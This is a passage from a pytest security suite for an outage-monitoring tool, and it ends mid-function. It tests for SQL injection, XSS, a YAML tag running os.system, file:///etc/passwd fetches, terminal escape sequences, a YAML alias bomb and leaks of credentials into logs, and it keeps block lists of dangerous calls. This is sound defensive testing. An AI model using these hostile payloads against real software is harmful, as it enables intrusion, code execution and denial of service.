"""The security review's checks (SECURITY.md cites each test by name).

Static: no eval/exec/pickle/shell anywhere in the package, YAML only through a safe loader, SQL
never built from strings. Behavioural: hostile text stays data in SQL, HTML and the terminal;
secrets from the environment never reach logs, `status`, the store or reports, even when a server
echoes the request back; feeds are http(s) only; downloads and hostile documents are bounded.
"""

from __future__ import annotations

import ast
import base64
import csv
import functools
import io
import json
import logging
import os
import re
import subprocess
import sys
import textwrap
import time
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, quote_plus

import pandas as pd
import pytest
import yaml
from reliability_support import FakeSMTP, Misbehave, always

from monitor import alerts
from monitor import http as monitor_http
from monitor import text as monitor_text
from monitor.cli import main
from monitor.errors import MonitorError, SourceError
from monitor.events.importer import import_events
from monitor.http import HttpClient
from monitor.sources.registry import SOURCES
from monitor.store import open_store

pytestmark = pytest.mark.reliability

REPO = Path(__file__).resolve().parents[2]
PACKAGE = REPO / "monitor"
SECRET = "s3cr3t-Zq8vK2pX9wL4"


def package_files() -> list[Path]:
    return sorted(PACKAGE.rglob("*.py"))


def parsed(path: Path) -> ast.Module:
    return ast.parse(path.read_text(encoding="utf-8"), filename=str(path))


def where(path: Path, node: ast.AST) -> str:
    return f"{path.relative_to(REPO)}:{node.lineno}"


# -- static checks ----------------------------------------------------------------------------
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "input"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "shelve", "marshal", "subprocess", "pty", "commands"}
FORBIDDEN_ATTRS = {("os", "system"), ("os", "popen"), ("os", "spawnl"), ("os", "spawnv"), ("os", "execv"),
                   ("os", "execl"), ("os", "execvp"), ("pd", "read_pickle"), ("pandas", "read_pickle"),
                   ("yaml", "unsafe_load"), ("yaml", "full_load"), ("yaml", "load_all"), ("yaml", "UnsafeLoader"),
                   ("yaml", "FullLoader"), ("yaml", "Loader"), ("np", "load"), ("numpy", "load")}


def test_no_eval_exec_pickle_or_shell_in_the_package():
    """Nothing runs code or unpickles data; no shell; TLS certificates are always checked."""
    assert HttpClient("x").session.verify is True
    found = []
    for path in package_files():
        for node in ast.walk(parsed(path)):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in FORBIDDEN_CALLS:
                found.append(f"{where(path, node)} {node.func.id}()")
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
                found += [f"{where(path, node)} import {n}" for n in names if n and n.split(".")[0] in FORBIDDEN_MODULES]
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and \
                    (node.value.id, node.attr) in FORBIDDEN_ATTRS:
                found.append(f"{where(path, node)} {node.value.id}.{node.attr}")
            if isinstance(node, ast.keyword) and node.arg == "shell":
                found.append(f"{where(path, node.value)} shell=")
            if isinstance(node, ast.keyword) and node.arg == "verify" and \
                    isinstance(node.value, ast.Constant) and node.value.value is False:
                found.append(f"{where(path, node.value)} verify=False (TLS checks off)")
            if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "read_pickle":
                found.append(f"{where(path, node)} read_pickle")
    assert not found, found


def test_yaml_is_only_read_with_a_safe_loader():
    """yaml.load appears only with a Loader that is a SafeLoader subclass (tags like !!python refused)."""
    from monitor.events import curated
    calls = []
    for path in package_files():
        for node in ast.walk(parsed(path)):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and \
                    isinstance(node.func.value, ast.Name) and node.func.value.id == "yaml" and node.func.attr == "load":
                loader = {k.arg: k.value for k in node.keywords}.get("Loader")
                calls.append((path, loader.id if isinstance(loader, ast.Name) else None))
    assert calls, "the curated YAML reader was expected to use yaml.load with its own loader"
    for path, loader in calls:
        assert loader is not None and issubclass(getattr(curated, loader), yaml.SafeLoader), (path, loader)
    with pytest.raises(MonitorError):
        curated.parse_yaml("- !!python/object/apply:os.system ['echo pwned']\n", source="x", where="x.yaml")


SQL_METHODS = {"execute", "executemany", "exec_driver_sql", "text", "copy"}


def _sql_is_constant(node: ast.AST) -> bool:
    """A literal, a choice of literals, or an f-string of UPPER_CASE module constants only."""
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.IfExp):
        return _sql_is_constant(node.body) and _sql_is_constant(node.orelse)
    if isinstance(node, ast.JoinedStr):
        return all(isinstance(v, ast.Constant) or (isinstance(v, ast.FormattedValue) and isinstance(v.value, ast.Name)
                                                   and v.value.id.isupper()) for v in node.values)
    return False


def _builds_strings(node: ast.AST) -> bool:
    """String formatting or concatenation: the shapes SQL injection is made of."""
    if isinstance(node, ast.JoinedStr | ast.BinOp):
        return True
    return isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "join")


def test_sql_is_never_built_from_strings():
    """Every statement handed to a driver is a literal or a SQLAlchemy construct; values are bound."""
    found = []
    for path in package_files():
        for node in ast.walk(parsed(path)):
            if not (isinstance(node, ast.Call) and node.args):
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            first = node.args[0]
            if name in SQL_METHODS and _builds_strings(first) and not _sql_is_constant(first):
                found.append(f"{where(path, node)} {name}({ast.unparse(first)[:60]})")
    assert not found, found


HOSTILE_TEXT = ["'; DROP TABLE signals; --", "\" OR 1=1 --", "Robert'); DELETE FROM events;--", "\\'\\\\",
                "%s %(x)s ? :name $1", "line\nbreak\r\n", "日本語 ✓ \u202e", "<script>alert(1)</script>"]


def test_hostile_text_is_stored_as_data(store):
    """Parameterised SQL end to end, on SQLite and PostgreSQL: text comes back exactly as written."""
    rows = [{"uid": f"u{i}{t}", "source": "hostile", "kind": "other", "country": "IR", "region": t,
             "start": pd.Timestamp("2019-11-16", tz="UTC"), "end": pd.Timestamp("2019-11-17", tz="UTC"),
             "all_day": True, "title": t, "url": None, "description": t, "raw": json.dumps({"t": t})}
            for i, t in enumerate(HOSTILE_TEXT)]
    store.write_events(pd.DataFrame(rows))
    back = store.read_events(sources=["hostile"]).set_index("uid")
    for row in rows:
        assert back.loc[row["uid"], "title"] == row["title"]
        assert back.loc[row["uid"], "description"] == row["description"]
    assert store.read_events(sources=["hostile' OR '1'='1"]).empty
    assert len(store.read_signals()) == 0 and store.signal_summary().empty  # the table is still there


# -- secrets ----------------------------------------------------------------------------------
def encodings(secret: str) -> list[str]:
    """The secret and the forms it travels in (URL-encoded, base64 inside SMTP AUTH)."""
    raw = secret.encode()
    return [secret, quote_plus(secret), base64.b64encode(raw).decode(),
            base64.b64encode(b"\0alerts@example.org\0" + raw).decode()]


def assert_no_secret(*texts: str) -> None:
    joined = "\n".join(t for t in texts if t)
    leaked = [form for form in encodings(SECRET) if form in joined]
    assert not leaked, f"secret found in output as {leaked}: ...{joined[joined.find(leaked[0]) - 200:][:400]}"


def everything_shown(store_url: str, tmp_path: Path, capsys) -> list[str]:
    """What the test's commands printed so far, then `status` (table and JSON), the store's run and
    delivery records, and a digest report."""
    before = capsys.readouterr()
    main(["--db", store_url, "status"])
    main(["--db", store_url, "status", "--format", "json"])
    out = tmp_path / "digest.html"
    main(["--db", store_url, "report", "digest", "--from", "2016-01-01", "--until", "2030-01-01", "--out", str(out)])
    store = open_store(store_url)
    try:
        records = [store.read_runs(limit=1000).to_json(date_format="iso"), store.read_deliveries().to_json(date_format="iso")]
    finally:
        store.close()
    shown = capsys.readouterr()
    return [before.out, before.err, shown.out, shown.err, *records,
            out.read_text(encoding="utf-8") if out.exists() else ""]


@pytest.fixture
def db(tmp_path) -> str:
    return f"sqlite:///{tmp_path}/secrets.db"


ECHO_OR_NOT = [pytest.param(Misbehave("status", status=403), id="plain refusal"),
               pytest.param(Misbehave("echo", status=403), id="server echoes the request")]


@pytest.mark.parametrize("fault", ECHO_OR_NOT)
@pytest.mark.parametrize("source,env,entity,dates", [
    ("ripe-atlas", "RIPE_ATLAS_KEY", "country/KE", ("2016-06-01", "2016-06-02")),
    ("cloudflare-radar", "CLOUDFLARE_API_TOKEN", "country/IR", ("2019-11-01", "2019-11-30"))])
def test_api_keys_never_shown(source, env, entity, dates, fault, proxy, db, tmp_path, capsys, caplog, monkeypatch):
    monkeypatch.setenv(env, SECRET)
    caplog.set_level(logging.DEBUG)  # as -vv: urllib3's request lines included
    proxy.plan = always(fault)
    rc = main(["-vv", "--db", db, "collect", source, "--entity", entity, "--from", dates[0], "--until", dates[1],
               "--base-url", f"{proxy.url}/api"])
    assert rc == 1
    assert_no_secret(caplog.text, *everything_shown(db, tmp_path, capsys))


def test_atlas_key_never_shown_by_a_real_process(proxy, db):
    """As a user runs it: a subprocess at -vv (debug lines included) whose stderr lands in a log file."""
    env = {**os.environ, "RIPE_ATLAS_KEY": SECRET, "PYTHONPATH": str(REPO)}
    done = subprocess.run([sys.executable, "-m", "monitor", "-vv", "--db", db, "collect", "ripe-atlas", "--entity",
                           "country/KE", "--from", "2016-06-01", "--until", "2016-06-03", "--base-url",
                           proxy.base_urls["ripe-atlas"]], capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "GET /api/v2/probes/" in done.stderr, "debug lines were expected at -vv"
    assert_no_secret(done.stdout, done.stderr)


@pytest.mark.parametrize("fault", ECHO_OR_NOT)
def test_acled_password_never_shown(fault, proxy, db, tmp_path, capsys, caplog, monkeypatch):
    monkeypatch.setenv("ACLED_EMAIL", "alerts@example.org")
    monkeypatch.setenv("ACLED_PASSWORD", SECRET)
    caplog.set_level(logging.DEBUG)
    proxy.plan = always(fault)
    rc = main(["-vv", "--db", db, "events", "import", f"{proxy.url}/acled", "--format", "acled", "--country", "IR",
               "--from", "2019-11-01", "--until", "2019-11-30"])
    assert rc == 2
    assert_no_secret(caplog.text, *everything_shown(db, tmp_path, capsys))


@pytest.mark.parametrize("echo", [False, True], ids=["plain refusal", "server echoes the login"])
def test_smtp_password_never_shown(echo, db, tmp_path, capsys, caplog):
    caplog.set_level(logging.DEBUG)
    with FakeSMTP(echo=echo) as smtp:
        params = alerts.AlertParams(smtp_host="127.0.0.1", smtp_port=smtp.port, smtp_starttls=False,
                                    smtp_user="alerts@example.org", smtp_from="alerts@example.org",
                                    smtp_to=("desk@example.org",), timeout=5)
        chans = alerts.channels(params, environ={alerts.PASSWORD_ENV: SECRET})
        store = open_store(db)
        store.record_delivery("email", "k1", alerts.PENDING, 0, payload={"subject": "s", "body": "b", "text": "t"})
        result = alerts.deliver(store, chans, params)
        store.close()
        assert any("AUTH" in line for line in smtp.received), "the login was attempted"
    assert result["errors"], result
    assert_no_secret(caplog.text, repr(chans), json.dumps(result), *everything_shown(db, tmp_path, capsys))


def test_webhook_token_never_shown(proxy, db, tmp_path, capsys, caplog, monkeypatch):
    """Webhook URLs carry their token in the path (Slack, Matrix): not even a debug line may show it."""
    monkeypatch.setenv(alerts.WEBHOOK_ENV, f"{proxy.url}/services/T000/B000/{SECRET}")
    caplog.set_level(logging.DEBUG)
    proxy.plan = always(Misbehave("status", status=500))
    params = alerts.AlertParams(attempts=1)
    store = open_store(db)
    store.record_delivery("webhook", "k1", alerts.PENDING, 0, payload={"subject": "s", "body": "b", "text": "t"})
    result = alerts.deliver(store, alerts.channels(params), params)
    store.close()
    assert result[alerts.FAILED] == 1
    assert_no_secret(caplog.text, json.dumps(result), *everything_shown(db, tmp_path, capsys))


def test_store_password_never_shown(capsys):
    """A PostgreSQL URL's password is masked by `status` (and in the error when the server is down)."""
    url = f"postgresql+psycopg://postgres:{SECRET}@127.0.0.1:1/nowhere"
    assert main(["--db", url, "status"]) == 2
    shown = capsys.readouterr()
    assert "127.0.0.1" in shown.err
    assert_no_secret(shown.out, shown.err)


def test_secrets_are_read_from_the_environment_only():
    """Every credential a source needs is named by an environment variable; none has a config key."""
    from monitor.config import parse_config
    needing = {name: spec.credential_env for name, spec in SOURCES.items() if spec.credential_env}
    assert needing == {"ripe-atlas": "RIPE_ATLAS_KEY", "cloudflare-radar": "CLOUDFLARE_API_TOKEN"}
    config = parse_config({"sources": {"ripe-atlas": {"key": SECRET}}})
    from monitor.collect import collect
    with pytest.raises(MonitorError, match="unknown option 'key'"):
        collect(None, "ripe-atlas", ["country/KE"], options=config.sources["ripe-atlas"].options)
    with pytest.raises(MonitorError, match="ACLED_EMAIL and ACLED_PASSWORD"):
        from monitor.events.acled import credentials_from_env
        credentials_from_env({})
    assert SECRET not in repr(__import__("monitor.events.acled", fromlist=["Credentials"]).Credentials("a", SECRET))


# -- hostile text in the terminal and in HTML ---------------------------------------------------
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mALERT\x1b[0m"


def test_server_error_text_cannot_drive_the_terminal(proxy, db, tmp_path, capsys, caplog, make_client):
    """An error body from a server is printed in logs and `status`: control characters must not
    reach a terminal (a title change, a cleared screen, fake colours)."""
    caplog.set_level(logging.INFO)
    proxy.plan = always(Misbehave("status", status=404, body=json.dumps({"error": f"down {ESCAPES}"}).encode()))
    rc = main(["--db", db, "collect", "ioda", "--entity", "country/IR", "--from", "2019-11-14", "--until",
               "2019-11-15", "--base-url", proxy.base_urls["ioda"]])
    assert rc == 1
    shown = [caplog.text, *everything_shown(db, tmp_path, capsys)]
    assert not [t for t in shown if "\x1b" in t or "\x07" in t], "control characters from a server reached output"


def test_feed_text_cannot_drive_the_terminal(db, tmp_path, capsys):
    feed = tmp_path / "feed.csv"
    feed.write_text("country,start,end,kind,title,url\nIR,2019-11-16,2019-11-16,protest,"
                    f"\"Protest {ESCAPES}\",https://example.org\n", encoding="utf-8")
    assert main(["--db", db, "events", "import", str(feed)]) == 0
    capsys.readouterr()
    assert main(["--db", db, "events", "list"]) == 0
    out = capsys.readouterr().out
    assert "Protest" in out
    assert "\x1b" not in out and "\x07" not in out


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


HOSTILE_ICS = textwrap.dedent("""\
    BEGIN:VCALENDAR
    VERSION:2.0
    PRODID:-//hostile//EN
    X-COUNTRY:IR
    BEGIN:VEVENT
    UID:evil-1@example.org
    DTSTART:20191116T120000Z
    DTEND:20191116T180000Z
    CATEGORIES:protest
    SUMMARY:<script>alert(1)</script> Protest {{7*7}} "><img src=x onerror=alert(2)>
    DESCRIPTION:<iframe src=javascript:alert(3)></iframe> $\\\\frac{$ {{7*7}} {% raw %}
    URL:javascript:alert(4)
    END:VEVENT
    END:VCALENDAR
    """).replace("\n", "\r\n")


def test_feed_text_is_escaped_from_feed_to_html_report(proxy, db, tmp_path, data_dir, capsys):
    """End to end: a hostile calendar fetched over HTTP, stored, then an incident report in HTML."""
    proxy.plan = always(Misbehave("content_type", content_type="text/calendar; charset=utf-8",
                                  body=HOSTILE_ICS.encode()))
    assert main(["--db", db, "events", "import", f"{proxy.url}/feed.ics", "--name", "hostile"]) == 0
    store = open_store(db)
    raw = pd.read_csv(data_dir / "ioda-iran-2019/20191123-ioda-iran-countrywide-active-probing.csv")
    store.write_signals(pd.DataFrame({"entity": "country/IR", "datasource": "ping-slash24",
                                      "time": pd.to_datetime(raw["timestamp"], utc=True),
                                      "value": raw["value"].astype(float)}))
    store.write_outages(pd.DataFrame([{
        "outage_id": "detected:country/IR:1573921200", "source": "detected", "entity": "country/IR", "country": "IR",
        "start": pd.Timestamp("2019-11-16T16:20Z"), "end": pd.Timestamp("2019-11-23T11:00Z"),
        "datasources": ["ping-slash24"], "depth": 0.9, "score": 1.0, "method": "median-ratio", "detail": {}}]))
    store.close()
    out = tmp_path / "incident.html"
    assert main(["--db", db, "report", "incident", "--entity", "country/IR", "--at", "2019-11-17", "--out",
                 str(out)]) == 0
    html = out.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, "the hostile event should be shown, as text"
    tags = _Tags()
    tags.feed(html)
    names = {t for t, _ in tags.tags}
    assert not names & {"script", "iframe", "object", "embed"}, names
    for tag, attrs in tags.tags:
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        for attr in ("href", "src"):
            value = (attrs.get(attr) or "").strip().lower()
            assert not value.startswith(("javascript:", "vbscript:", "data:text/html")), (tag, attrs)
    assert "Protest {{7*7}}" in html, "template syntax in feed text is shown as it is, never evaluated"


def test_feed_text_in_plots_is_not_mathtext():
    """A `$` in an event title must not be parsed as mathtext (a malformed one would crash the draw)."""
    from monitor.plot import figure_bytes, plot_timeline
    signals = pd.DataFrame({"entity": "country/IR", "datasource": "bgp",
                            "time": pd.date_range("2019-11-16", periods=12, freq="1h", tz="UTC"),
                            "value": [float(i) for i in range(12)]})
    events = pd.DataFrame([{"uid": "u", "source": "s", "kind": "protest", "country": "IR", "region": None,
                            "start": pd.Timestamp("2019-11-16T03:00Z"), "end": pd.Timestamp("2019-11-16T04:00Z"),
                            "all_day": False, "title": r"Fuel $\frac{$ price ^_^ $$", "url": None,
                            "description": None, "raw": None}])
    assert figure_bytes(plot_timeline(signals, events=events, entity="country/IR"), "png")[:4] == b"\x89PNG"


# -- feed URLs: http(s) only ----------------------------------------------------------------------
@pytest.mark.parametrize("url", ["file:///etc/passwd", "FILE:///etc/hostname", "ftp://example.org/feed.ics",
                                 "gopher://example.org/1", "data:text/calendar,BEGIN:VCALENDAR"])
def test_calendar_urls_other_than_http_are_refused_clearly(url, tmp_path):
    store = open_store(f"sqlite:///{tmp_path}/urls.db")
    try:
        with pytest.raises(MonitorError) as caught:
            import_events(store, url, fmt="ics")
    finally:
        store.close()
    message = str(caught.value)
    assert "http" in message.lower() and "\n" not in message, message


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.org/x", "gopher://example.org/1"])
def test_http_client_refuses_other_schemes(url, make_client):
    with pytest.raises(SourceError):
        make_client("calendar").get_text(url)


def test_redirect_to_a_local_file_is_refused(proxy, make_client):
    proxy.plan = always(Misbehave("status", status=302, headers=(("Location", "file:///etc/passwd"),)))
    with pytest.raises(SourceError) as caught:
        make_client("calendar").get_text(f"{proxy.url}/feed.ics")
    assert "root:" not in str(caught.value)


# -- bounded downloads and bounded work ----------------------------------------------------------
def test_every_http_client_has_a_size_cap():
    assert 0 < HttpClient("calendar").max_bytes <= 100_000_000
    for spec in SOURCES.values():
        client = spec.client(environ={spec.credential_env: "x"} if spec.credential_env else {})
        assert 0 < client.max_bytes <= 100_000_000, spec.name
        assert 0 < client.timeout <= 120, spec.name
        client.close()


@pytest.mark.parametrize("fault", [Misbehave("huge", size=3_000_000), Misbehave("huge_declared", size=15_000_000)],
                         ids=["streamed", "declared"])
def test_huge_calendar_feed_is_refused_and_stores_nothing(fault, proxy, tmp_path, make_client):
    proxy.plan = always(fault)
    store = open_store(f"sqlite:///{tmp_path}/huge.db")
    try:
        with pytest.raises(SourceError, match="cap"):
            import_events(store, f"{proxy.url}/feed.ics", client=make_client("calendar", max_bytes=1_000_000))
        assert store.read_events().empty
    finally:
        store.close()


def run_bounded(code: str, seconds: float, memory_mb: int = 1024) -> subprocess.CompletedProcess | None:
    """Run `code` in a fresh interpreter with a CPU-time and memory limit; None if it ran out of time."""
    limits = f"import resource; resource.setrlimit(resource.RLIMIT_AS, ({memory_mb << 20}, {memory_mb << 20}))\n"
    try:
        return subprocess.run([sys.executable, "-c", limits + textwrap.dedent(code)], capture_output=True, text=True,
                              timeout=seconds, env={**os.environ, "PYTHONPATH": str(REPO)})
    except subprocess.TimeoutExpired:
        return None


def test_yaml_alias_bomb_is_bounded():
    """A 1 kB YAML file of nested aliases ("billion laughs") expands to gigabytes when a field's
    value is turned into text; it must be refused (or kept small), quickly, within 1 GiB."""
    code = """
        from monitor.errors import MonitorError
        from monitor.events.curated import parse_yaml
        lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
        lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i-1}"] * 9) + "]" for i in range(1, 8)]
        doc = "\\n".join(lines) + "\\nevents:\\n- {country: IR, start: 2019-11-16, end: 2019-11-16, kind: protest, url: '', title: *a7}\\n"
        try:
            result = parse_yaml(doc, source="x", where="bomb.yaml")
            print("parsed", max(len(t) for t in result.events["title"]))
        except MonitorError as exc:
            print("refused", exc)
    """
    done = run_bounded(code, seconds=10)
    assert done is not None, "parsing a 1 kB YAML file did not finish in 10 s"
    assert done.returncode == 0, done.stderr[-500:]
    outcome, _, detail = done.stdout.strip().partition(" ")
    assert outcome == "refused" or int(detail) < 100_000, done.stdout[:300]


def test_recurring_event_every_second_is_bounded():
    """RRULE:FREQ=SECONDLY in a feed must not make the importer enumerate millions of instances."""
    code = """
        import pandas as pd
        from monitor.errors import MonitorError
        from monitor.events.ical import parse_ics
        ics = ("BEGIN:VCALENDAR\\r\\nBEGIN:VEVENT\\r\\nUID:a\\r\\nX-COUNTRY:IR\\r\\nDTSTART:20240101T000000Z\\r\\n"
               "DTEND:20240101T000001Z\\r\\nRRULE:FREQ=SECONDLY\\r\\nEND:VEVENT\\r\\nEND:VCALENDAR\\r\\n")
        window = (pd.Timestamp("2024-01-01", tz="UTC"), pd.Timestamp("2024-01-02", tz="UTC"))
        try:
            print("parsed", len(parse_ics(ics, source="x", where="x.ics", window=window).events))
        except MonitorError as exc:
            print("refused", exc)
    """
    done = run_bounded(code, seconds=10)
    assert done is not None, "a one-event calendar (FREQ=SECONDLY) over one day did not parse in 10 s"
    assert done.returncode == 0, done.stderr[-500:]


def test_ripestat_timeline_expansion_is_bounded(proxy, tmp_path, make_client):
    """A RIPEstat answer whose timeline claims 20 years must not be expanded hour by hour when one
    day was asked for (it took 7 s and 300 MB per 40 years before this was bounded)."""
    from monitor.collect import collect
    payload = {"status": "ok", "data": {"resolution": "1h", "stats": [
        {"asns_ris": 1, "v4_prefixes_ris": 2, "v6_prefixes_ris": 3,
         "timeline": [{"starttime": "2010-01-01T00:00:00", "endtime": "2030-01-01T00:00:00"}]}]}}
    proxy.plan = always(Misbehave("content_type", content_type="application/json", body=json.dumps(payload).encode()))
    store = open_store(f"sqlite:///{tmp_path}/ripestat.db")
    import time
    began = time.monotonic()
    summary = collect(store, "ripestat", ["country/IR"], start="2019-11-16", end="2019-11-17",
                      base_url=f"{proxy.url}/data", client=make_client("ripestat"))
    elapsed = time.monotonic() - began
    store.close()
    assert summary.ok and summary.results[0].points == 24 * 3
    assert elapsed < 2.0, f"one day from a 20-year timeline took {elapsed:.1f} s"


# -- deployment --------------------------------------------------------------------------------------
def test_jupyter_service_is_bound_to_localhost_with_a_token():
    """docker-compose.yml publishes Jupyter on 127.0.0.1 only and never switches its token off."""
    compose = REPO / "docker-compose.yml"
    if not compose.exists():
        pytest.skip("no docker-compose.yml in the repository yet")
    services = yaml.safe_load(compose.read_text(encoding="utf-8"))["services"]
    jupyter = [s for name, s in services.items() if "jupyter" in name or "notebook" in name]
    assert jupyter, "no Jupyter service in docker-compose.yml"
    for service in jupyter:
        ports = service.get("ports", [])
        assert ports, "the Jupyter service publishes no port"
        for port in ports:
            assert str(port).startswith(("127.0.0.1:", "localhost:")), f"Jupyter published beyond localhost: {port}"
        command = " ".join(service.get("command", [])) if isinstance(service.get("command"), list) \
            else str(service.get("command", ""))
        for arg in command.split():
            if "token=" in arg.lower() or "password=" in arg.lower():
                assert arg.split("=", 1)[1].strip("'\"") not in ("", "None"), f"Jupyter auth switched off: {arg}"
        env = service.get("environment") or {}
        assert (env.get("JUPYTER_TOKEN") if isinstance(env, dict) else None) != "", "JUPYTER_TOKEN set to empty"


# -- second review (issue 19): cut-offs, terminals, nesting, calendar bombs, NUL, paths, formulas -------
def secret_runs(shown: str, secret: str) -> list[str]:
    """Every run of 8 characters of `secret` (as sent, URL-encoded, base64) that `shown` contains."""
    forms = {secret, quote_plus(secret), quote(secret, safe=""), base64.b64encode(secret.encode()).decode()}
    return sorted({f[i:i + 8] for f in forms for i in range(len(f) - 7) if f[i:i + 8] in shown})


@pytest.fixture
def forget_secrets(monkeypatch):
    """No process-wide memory of secrets: the HTTP layer's own masking is what is tested."""
    monkeypatch.setattr(monitor_text, "_remembered", set())
    monkeypatch.setattr(monitor_http, "remember_secret", lambda value: None)


def _echo_after(offset: int, as_json: bool):
    """A handler refusing with 403 and echoing the credential it got (header or form) after
    `offset` characters of filler, in a JSON `error` or as plain text."""
    from werkzeug.wrappers import Response

    def handler(request):
        sent = request.headers.get("Authorization", "") + " " + request.get_data(as_text=True)
        text = "x" * offset + " " + sent
        body = json.dumps({"error": text}) if as_json else text
        return Response(body, status=403, content_type="application/json" if as_json else "text/plain")
    return handler


LONG_SECRET = "RIPEKEYMARKER-7f3a9c2e"
FORM_SECRET = "p@ss/w0rd+&=ACLED-29chars-xyz"


@pytest.mark.parametrize("as_json", [True, False], ids=["json error", "text body"])
def test_secret_echoed_at_every_offset_around_the_cut_is_masked(httpserver, forget_secrets, as_json, figures):
    """Issue 19 #1: the error text was cut at 200 characters before the secret was masked, so an
    echo starting at 174 left 21 of 22 characters. Every offset from 0 to 260, for a header
    credential (RIPE Atlas, Cloudflare) and a form-posted password (ACLED, URL-encoded)."""
    cases, leaks = 0, []
    for offset in range(0, 261):
        httpserver.clear()
        httpserver.expect_request("/x").respond_with_handler(_echo_after(offset, as_json))
        for call, secret in ((lambda c: c.get_json(httpserver.url_for("/x")), LONG_SECRET),
                             (lambda c: c.post_form(httpserver.url_for("/x"), {"username": "a@example.org",
                                                                             "password": FORM_SECRET}),
                              FORM_SECRET)):
            headers = {"Authorization": f"Key {LONG_SECRET}"} if secret == LONG_SECRET else {}
            client = HttpClient("ripe-atlas", retries=0, headers=headers)
            with pytest.raises(SourceError) as raised:
                call(client)
            assert "request failed" in str(raised.value)
            cases += 1
            if secret_runs(str(raised.value), secret):
                leaks.append((offset, str(raised.value)[-80:]))
    figures.add(kind="secret", check=f"echo at offsets 0-260, {'JSON error' if as_json else 'text body'}",
                cases=cases, leaked=len(leaks), detail=str(leaks[:1]))
    assert not leaks, leaks[:3]


@pytest.mark.parametrize("offset", [150, 174, 185, 196])
@pytest.mark.parametrize("source,env", [("ripe-atlas", "RIPE_ATLAS_KEY"), ("cloudflare-radar", "CLOUDFLARE_API_TOKEN"),
                                        ("acled", "ACLED_PASSWORD")])
def test_secret_echoed_near_the_cut_reaches_no_output_log_or_record(source, env, offset, httpserver, store_url,
                                                                    forget_secrets, capsys, caplog, monkeypatch):
    """End to end, on SQLite and PostgreSQL: the CLI error, the log at debug level, `status`
    (table and JSON) and the stored run record hold no 8 characters of the secret."""
    secret = FORM_SECRET if source == "acled" else LONG_SECRET
    monkeypatch.setenv(env, secret)
    monkeypatch.setenv("ACLED_EMAIL", "a@example.org")
    caplog.set_level(logging.DEBUG)
    httpserver.expect_request(re.compile(".*")).respond_with_handler(_echo_after(offset, as_json=True))
    if source == "acled":
        argv = ["events", "import", httpserver.url_for("/acled"), "--format", "acled", "--country", "IR",
                "--from", "2019-11-01", "--until", "2019-11-30"]
    else:
        argv = ["collect", source, "--entity", "country/IR", "--from", "2019-11-16", "--until", "2019-11-17",
                "--base-url", httpserver.url_for("/api")]
    assert main(["-vv", "--db", store_url, *argv]) in (1, 2)
    main(["--db", store_url, "status"])
    main(["--db", store_url, "status", "--format", "json"])
    shown = capsys.readouterr()
    store = open_store(store_url)
    try:
        runs = store.read_runs(limit=100).to_json(date_format="iso")
    finally:
        store.close()
    assert "request failed" in shown.err + caplog.text
    for where, text in (("output", shown.out), ("CLI error", shown.err), ("log", caplog.text), ("run record", runs)):
        assert not secret_runs(text, secret), f"{source}: {where} holds {secret_runs(text, secret)}"


def _only_safe_characters(out: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in out if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf")
            and c not in "\u200c\u200d"]


def test_feed_titles_cannot_drive_the_terminal_in_correlate(tmp_path, capsys):
    """Issue 19 #2: `correlate` printed event titles raw (an OSC title-set, a clear-screen, U+202E)."""
    db = f"sqlite:///{tmp_path}/t.db"
    hostile = tmp_path / "hostile.csv"
    hostile.write_text("uid,country,start,end,kind,title,url\nh1,TJ,2020-09-16,2020-09-16,opposition_event,"
                       f"\"Evil {ESCAPES}\u202e\x9b31m\",\n", encoding="utf-8")
    assert main(["--db", db, "events", "import", str(REPO / "data" / "events" / "starter.csv")]) == 0
    assert main(["--db", db, "events", "import", str(hostile)]) == 0
    capsys.readouterr()
    for fmt in ("table", "json"):
        assert main(["--db", db, "correlate", "--outages", "starter", "--country", "TJ", "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "Evil" in out, "the hostile event should coincide and be shown"
        assert not _only_safe_characters(out), (fmt, _only_safe_characters(out))


def test_library_warnings_cannot_drive_the_terminal(tmp_path):
    """Issue 19 #2: matplotlib's missing-glyph warnings quote the title's ESC, BEL and NUL. A real
    `plot` process, with a hostile event on the chart: its stderr holds no control character."""
    db = f"sqlite:///{tmp_path}/t.db"
    hostile = tmp_path / "hostile.csv"
    hostile.write_text("uid,country,start,end,kind,title,url\nh1,IR,2019-11-16,2019-11-16,protest,"
                       f"\"Evil {ESCAPES}\x00\u202e\",\n", encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(REPO), "MPLBACKEND": "Agg"}
    run = functools.partial(subprocess.run, capture_output=True, text=True, env=env, timeout=120)
    assert run([sys.executable, "-m", "monitor", "--db", db, "demo"]).returncode == 0
    assert run([sys.executable, "-m", "monitor", "--db", db, "events", "import", str(hostile)]).returncode == 0
    done = run([sys.executable, "-m", "monitor", "--db", db, "plot", "--entity", "country/IR", "--from", "2019-11-14",
                "--until", "2019-11-25", "--out", str(tmp_path / "p.png")])
    assert done.returncode == 0, done.stderr[-500:]
    assert not _only_safe_characters(done.stdout + done.stderr), done.stderr[-500:]


def test_log_lines_from_any_library_are_sanitised(capsys):
